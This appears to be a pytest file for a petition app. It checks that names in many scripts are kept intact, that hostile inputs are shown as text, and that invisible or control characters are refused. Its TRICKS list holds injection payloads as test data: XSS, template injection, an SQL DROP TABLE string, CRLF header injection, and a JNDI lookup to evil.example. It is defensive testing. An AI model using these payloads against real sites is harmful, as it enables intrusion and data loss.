"""Names of real people pass as they are; what is no writing is refused where it stands."""

import html
import unicodedata

from tests.hostile.attacks import sign
from undersigned.petitions.models import Petition
from undersigned.signatures.models import Signature
from undersigned.signatures.queries import find_signature

REAL = [
    "Y",
    "O",
    "Õ",
    "ⵣ",
    "Ŋ",
    "ı",
    "İ",
    "ﷲ",
    "Suharsa",
    "Null",
    "None",
    "undefined",
    "true",
    "NaN",
    "Infinity",
    "O'Connor-D'Angelo",
    "O’Connor",
    "ʻOkina",
    "Jean-Luc",
    "d'Arc",
    "X Æ A-12",
    "José 3rd",
    "Mary Jr.",
    "Łukasz",
    "Þór",
    "Ğüneş",
    "Nguyễn Văn A",
    "ليلى الحدّاد",
    "می‌خواهم",
    "שלום",
    "王小明",
    "𠮷野",
    "山田　太郎",
    "한글",
    "क्‍ष",
    "श्री‍मती",
    "ന്‍",
    "Ахмед",
    "Αλέξανδρος",
    "Anne\u00a0Marie",
    "é" * 120,
    "葛󠄀城",
    "Ó\u200eBriain",
]

TRICKS = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{{ 7|add:7 }} x",
    "${jndi:ldap://evil.example/a}",
    "Robert'); DROP TABLE signatures;--",
    "Ann %0d%0aBcc: x@y.example",
    "&lt;b&gt; x",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "%(count)s x",
    "{count} x",
    "Ann\\",
    "{{7*7}}",
]

NO_WRITING = [
    "",
    "   ",
    "\u200b",
    "\u200b\u200d\u2060",
    "\ufeff",
    "\u00ad",
    "\u200d",
    "\u3164",
    "\u2800",
    "\x00",
    "A\x00B",
    "A\x07",
    "A\x1b[2J",
    "A\x7f",
    "A\x9f",
    "A\tB",
    "A\nB",
    "A\rB",
    "A\r\nBcc: x",
    "A\x0bB",
    "A\x85B",
    "A\u2028B",
    "A\u2029B",
    "A\u202eB",
    "A\u202a",
    "A\u2066B\u2069",
    "\ud800",
    "A\udfff",
    "A\ufffe",
    "A\U0001ffff",
    "\U000e0041\U000e0042",
    "\ue000",
    "\u0301" * 50,
    "x" * 121,
    "x" * 15_000,
    "!!!",
]


def test_what_a_person_may_be_called_is_kept_unchanged(petition: Petition) -> None:
    for number, name in enumerate([*REAL, *TRICKS]):
        email = f"ann{number}@hostile.example"
        assert sign(petition, name=name, place=name, email=email, show_name="yes").status_code == 200, repr(name)
        [kept] = find_signature(petition.slug, email)
        assert kept.name == kept.place == unicodedata.normalize("NFC", name).strip()


def test_scripts_and_templates_show_as_text(petition: Petition) -> None:
    for name in TRICKS:
        for answer in (sign(petition, name=name, place=name), sign(petition, name=name, place=name, country="")):
            page = answer.content.decode()
            assert f'value="{html.escape(name)}"' in page or answer.status_code == 200
            assert name not in page or not set(name) & set("<>'\"&")


def test_what_is_no_writing_is_refused_with_all_else_still_there(petition: Petition) -> None:
    for name in NO_WRITING:
        answer = sign(petition, name=name, email="kept@hostile.example", place="Kavakdere", show_name="1")
        assert answer.status_code == 422, repr(name)
        page = answer.content.decode()
        assert 'id="e-name"' in page, repr(name)
        assert 'value="kept@hostile.example"' in page
        assert 'value="Kavakdere"' in page
    assert not Signature.objects.exists()


def test_places_are_refused_as_names_are(petition: Petition) -> None:
    for place in ("A\u202eB", "A\nB", "A\x00", "\u200b", "x" * 121):
        assert 'id="e-place"' in sign(petition, place=place).content.decode(), repr(place)
    assert not Signature.objects.exists()
